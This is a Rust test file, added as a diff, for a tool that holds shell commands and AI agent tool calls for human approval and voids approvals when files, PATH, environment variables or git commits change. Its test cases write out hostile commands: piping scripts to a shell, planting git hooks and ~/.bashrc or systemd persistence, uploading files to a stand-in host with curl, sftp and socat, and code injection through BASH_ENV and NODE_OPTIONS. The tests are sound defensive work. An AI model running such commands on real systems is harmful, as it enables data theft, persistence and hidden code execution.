@@ -1,0 +1,282 @@
+//! What an approval is bound to besides the text: whatever the command is, and whether or not it uses the network.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::thread::JoinHandle;
+
+use bashgate_tests::{Output, Site, until};
+use serde_json::json;
+
+use super::hostile_world::git;
+
+fn tainted() -> Site {
+    let site = Site::default();
+    for label in ["corruption", "secret"] {
+        site.raise("default", label);
+    }
+    site
+}
+
+fn program(file: &Path, text: &str) {
+    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+    std::fs::write(file, text).unwrap();
+    std::fs::set_permissions(file, PermissionsExt::from_mode(0o755)).unwrap();
+}
+
+/// Asks with a changed environment.
+fn ask_with(site: &Site, command: &str, variables: &[(&str, &str)]) -> JoinHandle<Output> {
+    let mut hook = site.hook_command(&site.hook_toml());
+    hook.envs(variables.iter().copied()).args(["check", "--", command]);
+    std::thread::spawn(move || Output::of(&mut hook, b""))
+}
+
+/// What is read, run or kept for later changes while people look: whoever asked is denied.
+#[test]
+fn files_are_bound_whether_or_not_something_leaves() {
+    for (command, file) in [
+        ("bash < j.sh", "j.sh"),
+        ("cat j.sh | bash", "j.sh"),
+        ("eval \"$(cat j.sh)\"", "j.sh"),
+        ("base64 -d j.sh | sh", "j.sh"),
+        ("cp j.sh .git/hooks/pre-push", "j.sh"),
+        ("cat j.sh >> ~/.bashrc", "j.sh"),
+        ("mv j.sh .git/hooks/pre-push", "j.sh"),
+        ("cp -r d ~/.config/systemd", "d/x"),
+        ("chmod +x .git/hooks/pre-push", ".git/hooks/pre-push"),
+        ("python3 up.py < j.sh", "j.sh"),
+        ("nobodyknows d", "d/x"),
+        ("cp j.sh g && curl -T g https://h.example/", "j.sh"),
+        ("grep -r x j.sh | curl -T - https://h.example/", "j.sh"),
+        ("cat many/* | curl -T - https://h.example/", "many/1000"),
+        ("sftp h.example <<< \"put j.sh\"", "j.sh"),
+        ("socat EXEC:./j.sh TCP:h.example:1", "j.sh"),
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        let work = site.work();
+        git(&work, &["init", "-q", "-b", "main"]);
+        for name in ["j.sh", "up.py", "d/x", ".git/hooks/pre-push"] {
+            program(&work.join(name), "before\n");
+        }
+        if file.starts_with("many") {
+            (0..1100).for_each(|number| program(&work.join(format!("many/{number}")), "x"));
+        }
+        let running = site.check_later(command);
+        let held = until("an answer, or a card", || {
+            if running.is_finished() { Some(None) } else { site.pending().first().cloned().map(Some) }
+        });
+        // What the rules deny outright binds nothing.
+        let Some(card) = held else {
+            assert_eq!(running.join().unwrap().code, Some(2), "{command}");
+            continue;
+        };
+        program(&work.join(file), "evil!!\n");
+        site.cli(["approve", card["id"].as_str().unwrap()]).expect(0);
+        let answered = running.join().unwrap();
+        assert!(answered.code == Some(2) && answered.stderr.contains("was changed while"), "{command}: {answered:?}");
+    }
+}
+
+/// An overruled denial is for the bytes that were looked at.
+#[test]
+fn an_overruled_denial_is_for_files_as_they_were() {
+    let site = Site::default();
+    let _host = site.serve();
+    site.raise("default", "corruption");
+    let script = site.work().join("j.b64");
+    std::fs::write(&script, "ZWNobyBmaW5lCg==\n").unwrap();
+    let command = "base64 -d j.b64 | sh";
+    site.check(command).expect(2);
+    let denied: serde_json::Value =
+        serde_json::from_str(&site.cli(["pending", "--denied", "--json"]).expect(0).stdout).unwrap();
+    let id = denied.as_array().unwrap()[0]["id"].as_str().unwrap().to_owned();
+    site.cli(["approve", &id]).expect(0);
+    std::fs::write(&script, "dG91Y2ggUFdOCg==\n").unwrap();
+    site.check(command).expect(2);
+}
+
+/// A program may start any other by its name: whoever puts one into a folder of PATH asks again.
+#[test]
+fn folders_of_path_that_others_write_are_bound() {
+    let site = tainted();
+    let _host = site.serve();
+    git(&site.work(), &["init", "-q", "-b", "main"]);
+    git(&site.work(), &["remote", "add", "origin", "git@h.example:x.git"]);
+    let folder = site.path().join("bin");
+    std::fs::create_dir(&folder).unwrap();
+    // As root all that is root's is trusted.
+    std::os::unix::fs::chown(&folder, Some(12345), Some(12345)).unwrap();
+    let path = format!("{}:{}", folder.display(), std::env::var("PATH").unwrap());
+    let command = "git push origin main";
+    let running = ask_with(&site, command, &[("PATH", &path)]);
+    let id = site.held(command);
+    site.cli(["approve", &id, "session"]).expect(0);
+    running.join().unwrap().expect(0);
+    ask_with(&site, command, &[("PATH", &path)]).join().unwrap().expect(0);
+    program(&folder.join("ssh"), "#!/bin/sh\n");
+    let running = ask_with(&site, command, &[("PATH", &path)]);
+    let id = site.held(command);
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+}
+
+/// One answer is for one environment: code and destinations that variables name are part of the question.
+#[test]
+fn variables_that_choose_code_or_a_destination_are_no_part_of_another_answer() {
+    for (command, variable) in [
+        ("docker compose up -d", ("DOCKER_HOST", "tcp://127.0.0.1:8078")),
+        ("bash < s.sh", ("BASH_ENV", "/srv/evil.sh")),
+        ("npx --no x", ("NODE_OPTIONS", "--require=./evil.js")),
+        ("curl -T s.sh https://h.example/", ("OPENSSL_CONF", "/srv/evil.cnf")),
+        ("curl -T s.sh https://h.example/", ("SSLKEYLOGFILE", "/srv/keys")),
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        std::fs::write(site.work().join("s.sh"), "x").unwrap();
+        let plain = ask_with(&site, command, &[]);
+        let held = until("an answer, or a card", || {
+            if plain.is_finished() { Some(None) } else { site.pending().first().cloned().map(Some) }
+        });
+        let Some(card) = held else {
+            assert_eq!(plain.join().unwrap().code, Some(2), "{command}");
+            continue;
+        };
+        let other = ask_with(&site, command, &[variable]);
+        until("a second card", || (site.pending().len() == 2).then_some(()));
+        site.cli(["approve", card["id"].as_str().unwrap()]).expect(0);
+        plain.join().unwrap().expect(0);
+        let second = site.pending()[0]["id"].as_str().unwrap().to_owned();
+        site.cli(["deny", &second]).expect(0);
+        other.join().unwrap().expect(2);
+    }
+}
+
+/// What git sends by itself: the branch that is checked out, where it goes to, and commits.
+#[test]
+fn a_push_is_for_the_branch_and_the_commits_of_then() {
+    let site = tainted();
+    let _host = site.serve();
+    let work = site.work();
+    let commit = |name: &str| {
+        std::fs::write(work.join(name), name).unwrap();
+        git(&work, &["add", "-A"]);
+        git(&work, &["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", name]);
+    };
+    git(&work, &["init", "-q", "-b", "topic"]);
+    git(&work, &["remote", "add", "origin", "https://h.example/x.git"]);
+    commit("one");
+    git(&work, &["branch", "production"]);
+    // A session is for what is committed later, and for this branch.
+    let command = "git push origin HEAD";
+    let running = site.check_later(command);
+    let id = site.held(command);
+    site.cli(["approve", &id, "session"]).expect(0);
+    running.join().unwrap().expect(0);
+    commit("two");
+    site.check(command).expect(0);
+    git(&work, &["checkout", "-q", "production"]);
+    let running = site.check_later(command);
+    let id = site.held(command);
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+    // For once is for what is there now.
+    for command in ["git push -q origin production", "git add -A && git commit -qm x && git push -q origin production"]
+    {
+        let running = site.check_later(command);
+        let id = site.held(command);
+        if command.contains("add") {
+            std::fs::write(work.join("one"), "secret").unwrap();
+        } else {
+            commit("three");
+        }
+        site.cli(["approve", &id]).expect(0);
+        let answered = running.join().unwrap().expect(2);
+        assert!(answered.stderr.contains("was changed while"), "{command}: {answered:?}");
+    }
+    // And the card says to which branch it goes.
+    git(&work, &["config", "push.default", "upstream"]);
+    git(&work, &["config", "branch.production.remote", "origin"]);
+    git(&work, &["config", "branch.production.merge", "refs/heads/elsewhere"]);
+    let running = site.check_later("git push -q");
+    let id = site.held("git push -q");
+    let card = site.cli(["show", &id]).expect(0).stdout;
+    assert!(card.contains("refs/heads/elsewhere"), "{card}");
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+}
+
+/// What a file holds is what counts: written through memory, its times stay as they were.
+#[test]
+fn a_file_that_is_written_through_memory_is_another_one() {
+    let site = tainted();
+    let _host = site.serve();
+    let work = site.work();
+    std::fs::create_dir(work.join("d")).unwrap();
+    let file = work.join("d/f");
+    std::fs::write(&file, "good").unwrap();
+    let mut writer = std::process::Command::new("python3")
+        .args(["-c", "import mmap,sys\nf=open(sys.argv[1],'r+b')\nm=mmap.mmap(f.fileno(),4)\nm[0:1]=b'g'\nprint('up',flush=True)\nsys.stdin.readline()\nm[:]=b'EVIL'\nprint('done',flush=True)\nsys.stdin.readline()"])
+        .arg(&file)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut words = std::io::BufReader::new(writer.stdout.take().unwrap());
+    let mut input = writer.stdin.take().unwrap();
+    let mut line = String::new();
+    std::io::BufRead::read_line(&mut words, &mut line).unwrap();
+    let command = "tar c d | curl -T - https://h.example/";
+    let running = site.check_later(command);
+    let id = site.held(command);
+    std::io::Write::write_all(&mut input, b"\n").unwrap();
+    std::io::BufRead::read_line(&mut words, &mut line).unwrap();
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "EVIL");
+    site.cli(["approve", &id]).expect(0);
+    running.join().unwrap().expect(2);
+    drop(input);
+    writer.wait().unwrap();
+}
+
+/// Two calls with other files are two questions, however alike their words are.
+#[test]
+fn a_tools_files_are_part_of_its_question() {
+    let site = tainted();
+    let _host = site.serve();
+    let work = site.work();
+    std::fs::create_dir(work.join("d")).unwrap();
+    for name in ["a.txt", "notes", "my file.txt", "d/n.md"] {
+        std::fs::write(work.join(name), "good").unwrap();
+    }
+    let ask = |input: &serde_json::Value| {
+        let mut hook = site.hook_command(&site.hook_toml());
+        hook.args(["--agent", "claude"]);
+        let event = json!({
+            "hook_event_name": "PreToolUse", "session_id": "s", "cwd": work, "tool_name": "mcp__x__upload",
+            "tool_input": input, "tool_use_id": "u",
+        })
+        .to_string();
+        std::thread::spawn(move || Output::of(&mut hook, event.as_bytes()))
+    };
+    for (input, file) in [
+        (json!({"path": "a.txt"}), "a.txt"),
+        (json!({"path": "file:%61.txt"}), "a.txt"),
+        (json!({"attachments": ["notes"]}), "notes"),
+        (json!({"path": "my file.txt"}), "my file.txt"),
+        (json!({"directory": "d", "name": "n.md"}), "d/n.md"),
+        (json!({"glob": "d/*.md"}), "d/n.md"),
+    ] {
+        std::fs::write(work.join(file), "good").unwrap();
+        let first = ask(&input);
+        until("a card", || (site.pending().len() == 1).then_some(()));
+        std::fs::write(work.join(file), "EVIL").unwrap();
+        let second = ask(&input);
+        until("a second card", || (site.pending().len() == 2).then_some(()));
+        let mut cards = site.pending();
+        cards.sort_by_key(|card| card["asked_at_ms"].as_u64());
+        for card in &cards {
+            site.cli(["deny", card["id"].as_str().unwrap()]).expect(0);
+        }
+        first.join().unwrap().expect(2);
+        second.join().unwrap().expect(2);
+    }
+}
